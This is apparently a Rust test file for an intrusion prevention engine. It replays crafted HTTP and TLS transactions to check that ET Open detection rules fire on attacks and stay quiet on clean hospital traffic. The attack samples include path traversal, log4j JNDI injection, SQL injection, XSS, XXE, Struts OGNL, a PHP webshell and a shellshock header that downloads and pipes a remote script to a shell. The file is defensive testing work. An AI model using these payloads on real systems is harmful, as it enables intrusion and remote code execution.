//! Real ET Open rules against crafted transactions (the engine alone; the proxy end-to-end
//! tests replay the same traffic through the real binary).

#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::sync::OnceLock;

use sekisho_core::{Direction, RequestHead, ResponseHead};
use sekisho_ips::detect::Scratch;
use sekisho_ips::ruleset::{Endpoints, FlowVars};
use sekisho_ips::tx::Tx;
use sekisho_ips::{Phase, RuleSet};

mod common;

/// ET Open, loaded once: only called by tests that checked `common::corpus("et-open")` first.
fn set() -> &'static RuleSet {
    static SET: OnceLock<RuleSet> = OnceLock::new();
    SET.get_or_init(|| RuleSet::load(&common::et_config().load_options(None).unwrap()).unwrap())
}

/// A transaction to replay.
#[derive(Default, Clone)]
pub struct Sample {
    sni: Option<&'static str>,
    method: &'static str,
    uri: &'static str,
    headers: Vec<(&'static str, &'static str)>,
    body: &'static [u8],
    status: u16,
    resp_headers: Vec<(&'static str, &'static str)>,
    resp_body: &'static [u8],
}

fn fire(s: &Sample) -> BTreeMap<u32, String> {
    let set = set();
    let ep = Endpoints {
        client: "10.1.2.3".parse().unwrap(),
        client_port: 40000,
        server: Some("203.0.113.10".parse().unwrap()),
        server_port: Some(80),
    };
    let mut vars = FlowVars::default();
    let mut scratch = Scratch::default();
    let mut tx = Tx::new();
    let mut out = BTreeMap::new();
    let mut run = |tx: &Tx, phase, vars: &mut FlowVars, scratch: &mut Scratch| {
        for h in set.eval(phase, tx, &ep, None, vars, scratch) {
            let r = &set.rule(h.rule).rule;
            out.insert(r.sid, r.msg.clone());
        }
    };
    if let Some(sni) = s.sni {
        tx.tls_hello(Some(sni), &[]);
        run(&tx, Phase::TlsHello, &mut vars, &mut scratch);
    }
    if s.method.is_empty() {
        return out;
    }
    let mut h = http::HeaderMap::new();
    for (k, v) in &s.headers {
        h.append(
            http::header::HeaderName::from_bytes(k.as_bytes()).unwrap(),
            v.parse().unwrap(),
        );
    }
    let head = RequestHead::new(
        s.method.parse().unwrap(),
        s.uri.parse().unwrap(),
        http::Version::HTTP_11,
        h,
        80,
    );
    tx.dns_query(&head.host);
    run(&tx, Phase::Dns, &mut vars, &mut scratch);
    tx.request_head(&head);
    run(&tx, Phase::ReqHead, &mut vars, &mut scratch);
    tx.body_chunk(Direction::Request, s.body, 1 << 20);
    tx.finish_body(Direction::Request, 1 << 20);
    run(&tx, Phase::ReqBody, &mut vars, &mut scratch);
    if s.status == 0 {
        return out;
    }
    let mut rh = http::HeaderMap::new();
    for (k, v) in &s.resp_headers {
        rh.append(
            http::header::HeaderName::from_bytes(k.as_bytes()).unwrap(),
            v.parse().unwrap(),
        );
    }
    tx.response_head(&ResponseHead {
        status: http::StatusCode::from_u16(s.status).unwrap(),
        version: http::Version::HTTP_11,
        headers: rh,
        reason: None,
        raw: None,
        wire: None,
    });
    run(&tx, Phase::RespHead, &mut vars, &mut scratch);
    tx.body_chunk(Direction::Response, s.resp_body, 1 << 20);
    tx.finish_body(Direction::Response, 1 << 20);
    run(&tx, Phase::RespBody, &mut vars, &mut scratch);
    out
}

fn get(uri: &'static str) -> Sample {
    Sample {
        method: "GET",
        uri,
        headers: vec![
            ("host", "www.example.org"),
            ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"),
            ("accept", "text/html"),
        ],
        status: 200,
        resp_headers: vec![("content-type", "text/html"), ("content-length", "20")],
        resp_body: b"<html>hello</html>\r\n",
        ..Sample::default()
    }
}

/// The attack samples and the SIDs each must raise (the keyword each one exercises in brackets).
pub fn attacks() -> Vec<(&'static str, Sample, Vec<u32>)> {
    let mut v = Vec::new();
    v.push((
        "uri /etc/passwd [http.uri]",
        get("/download?file=../../../../etc/passwd"),
        vec![2049400],
    ));
    let mut s = get("/");
    s.headers
        .push(("x-api-version", "${jndi:ldap://203.0.113.7:1389/a}"));
    v.push(("log4j in a header [pkt_data]", s, vec![2034647, 2034759]));
    let mut s = get("/");
    s.headers[1] = ("user-agent", "python-requests/2.31.0");
    v.push(("python-requests UA [http.user_agent]", s, vec![2017515]));
    let mut s = get("/");
    s.headers[1] = (
        "user-agent",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    );
    v.push((
        "masscan UA [http.user_agent depth]",
        s,
        vec![2017615, 2017616],
    ));
    let mut s = get("/cat.txt");
    s.resp_body = b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n";
    v.push((
        "passwd in a response [file.data]",
        s,
        vec![2002034, 2025879],
    ));
    v.push((
        "SNI [tls.sni endswith]",
        Sample {
            sni: Some("api.1jve.com"),
            ..Sample::default()
        },
        vec![2026116],
    ));
    let mut s = get("/xmlrpc.php");
    s.method = "POST";
    s.headers.push(("content-type", "application/xml"));
    s.body = b"<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>";
    v.push(("XXE [http.request_body]", s, vec![2018056, 2025877]));
    v.push((
        "SQLi union select [pcre]",
        get("/index.php?id=1%20UNION%20SELECT%201,2,concat(user(),0x3a,version())--%20-"),
        vec![2006446, 2011037, 2011042],
    ));
    v.push((
        "XSS [http.uri pcre]",
        get("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        vec![2009714],
    ));
    let mut s = get("/cgi-bin/status");
    s.headers[1] = (
        "user-agent",
        "() { :; }; /bin/bash -c 'wget http://203.0.113.9/x.sh -O- | sh'",
    );
    v.push(("shellshock [http.header]", s, vec![2019232]));
    v.push((
        "thinkphp [http.uri]",
        get("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"),
        vec![2026731],
    ));
    v.push((
        "php wrapper [http.uri]",
        get("/index.php?page=php://filter/convert.base64-encode/resource=index"),
        vec![2013001],
    ));
    let mut s = get("/");
    s.headers[1] = (
        "user-agent",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    );
    v.push(("nmap NSE UA [http.user_agent]", s, vec![2009358, 2024364]));
    let mut s = get("/struts2-showcase/index.action");
    s.headers.push((
        "content-type",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}",
    ));
    v.push(("struts OGNL [http.content_type]", s, vec![2024045]));
    let mut s = get("/x.php");
    s.resp_body = b"<html><body><?php eval(base64_decode($_POST['x'])); ?></body></html>";
    v.push(("webshell in a response [file.data]", s, vec![2017399]));
    let mut s = get("/update");
    s.resp_body = b"<html><body><iframe src=\"\"data:text/x-powershell;base64,SQBFAFgA\"></iframe></body></html>";
    v.push(("HTML smuggling [http.response_body]", s, vec![2037887]));
    v.push(("dotenv [http.uri]", get("/.env"), vec![2031502]));
    v
}

/// Everyday traffic of a hospital workstation: none of it may raise an alert.
fn clean() -> Vec<Sample> {
    let mut v = vec![
        get("/"),
        get("/index.html"),
        get("/static/app.js?v=1.2.3"),
        get("/api/patients/12345/records?from=2026-01-01&to=2026-11-25"),
        get("/images/logo.png"),
    ];
    let mut s = get("/api/claims");
    s.method = "POST";
    s.headers.push(("content-type", "application/json"));
    s.body = br#"{"facility":"F-0042","claims":[{"code":"A123","amount":1200}]}"#;
    s.resp_headers = vec![("content-type", "application/json")];
    s.resp_body = br#"{"accepted":1,"rejected":0}"#;
    v.push(s);
    let mut s = get("/login");
    s.method = "POST";
    s.headers
        .push(("content-type", "application/x-www-form-urlencoded"));
    s.headers
        .push(("cookie", "sid=8f14e45fceea167a5a36dedd4bea2543"));
    s.body = b"user=nurse01&password=correct+horse+battery+staple";
    s.status = 302;
    s.resp_headers = vec![
        ("location", "/home"),
        ("set-cookie", "sid=abc; HttpOnly; Secure"),
    ];
    s.resp_body = b"";
    v.push(s);
    let mut s = get("/doc.pdf");
    s.resp_headers = vec![("content-type", "application/pdf")];
    s.resp_body =
        b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";
    v.push(s);
    v.push(Sample {
        sni: Some("www.example.org"),
        ..Sample::default()
    });
    v
}

#[test]
fn real_et_rules_fire_on_attacks() {
    if common::corpus("et-open").is_none() {
        return;
    }
    let mut total = std::collections::BTreeSet::new();
    for (name, s, want) in attacks() {
        let got = fire(&s);
        for sid in &want {
            assert!(
                got.contains_key(sid),
                "{name}: sid {sid} did not fire; fired: {got:?}"
            );
        }
        total.extend(want);
    }
    assert!(total.len() >= 20, "only {} distinct SIDs", total.len());
    // Among them, rules whose decision needs a pcre.
    let set = set();
    let with_pcre = (0..set.len())
        .map(|i| &set.rule(i).rule)
        .filter(|r| total.contains(&r.sid))
        .filter(|r| {
            r.groups.iter().any(|g| {
                g.items
                    .iter()
                    .any(|i| matches!(i, sekisho_ips::rule::Item::Pcre(_)))
            })
        })
        .count();
    assert!(
        with_pcre >= 2,
        "only {with_pcre} pcre rules among the fired SIDs"
    );
}

#[test]
fn clean_traffic_raises_nothing() {
    if common::corpus("et-open").is_none() {
        return;
    }
    for s in clean() {
        let got = fire(&s);
        assert!(got.is_empty(), "{} {} raised {got:?}", s.method, s.uri);
    }
}

#[test]
fn discover() {
    if std::env::var_os("IPS_DISCOVER").is_none() {
        return;
    }
    if common::corpus("et-open").is_none() {
        return;
    }
    for s in clean() {
        let c0 = set()
            .stats
            .candidates
            .load(std::sync::atomic::Ordering::Relaxed);
        fire(&s);
        let c1 = set()
            .stats
            .candidates
            .load(std::sync::atomic::Ordering::Relaxed);
        eprintln!("clean {} {}: {} candidates", s.method, s.uri, c1 - c0);
    }
    for (name, s, _) in attacks() {
        eprintln!("== {name}");
        for (sid, msg) in fire(&s) {
            eprintln!("   {sid} {msg}");
        }
    }
}
